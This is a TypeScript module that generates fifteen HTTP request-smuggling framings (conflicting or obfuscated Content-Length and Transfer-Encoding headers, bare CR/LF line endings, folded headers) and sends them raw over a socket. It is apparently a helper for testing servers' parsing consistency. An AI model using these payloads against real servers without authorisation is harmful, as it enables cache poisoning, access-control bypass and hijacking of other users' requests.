import { connect } from 'node:net'

/** Headers and bodies by which some servers find the end of a request elsewhere than others (RFC 9112 §11.2). */
export const hiddenRequestFramings = (hidden: string): readonly string[] => {
  const chunked = `0\r\n\r\n${hidden}`
  const length = (text: string) => `Content-Length: ${Buffer.byteLength(text)}\r\n`
  return [
    `${length(chunked)}Transfer-Encoding: chunked\r\n\r\n${chunked}`,
    `Transfer-Encoding: chunked\r\n${length(chunked)}\r\n${chunked}`,
    `${length(chunked)}Transfer-Encoding:\tchunked\r\n\r\n${chunked}`,
    `${length(chunked)}Transfer-Encoding : chunked\r\n\r\n${chunked}`,
    `${length(chunked)}Transfer-Encoding: xchunked\r\n\r\n${chunked}`,
    `${length(chunked)}Transfer-Encoding: identity, chunked\r\n\r\n${chunked}`,
    `${length(chunked)}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n${chunked}`,
    `Content-Length: 0\r\n${length(hidden)}\r\n${hidden}`,
    `${length(hidden)}Content-Length: 0\r\n\r\n${hidden}`,
    `Content-Length: +${Buffer.byteLength(hidden)}\r\n\r\n${hidden}`,
    `Content-Length: 0, ${Buffer.byteLength(hidden)}\r\n\r\n${hidden}`,
    `X: y\n${length(hidden)}\r\n${hidden}`,
    `X: y\rContent-Length: 0\r\n${length(hidden)}\r\n${hidden}`,
    ` folded\r\n${length(hidden)}\r\n${hidden}`,
    `Expect: 100-continue\r\n${length(hidden)}\r\n${hidden}`,
  ]
}

/** Sends bytes as they are, and waits until the server has answered something or closed; then ends the connection. */
export const sendBytes = (base: string, bytes: string): Promise<void> =>
  new Promise((resolve) => {
    const { hostname, port } = new URL(base)
    const socket = connect(Number(port), hostname)
    socket.once('error', () => socket.destroy())
    socket.once('close', () => resolve())
    socket.once('data', () => socket.end())
    socket.write(bytes)
  })
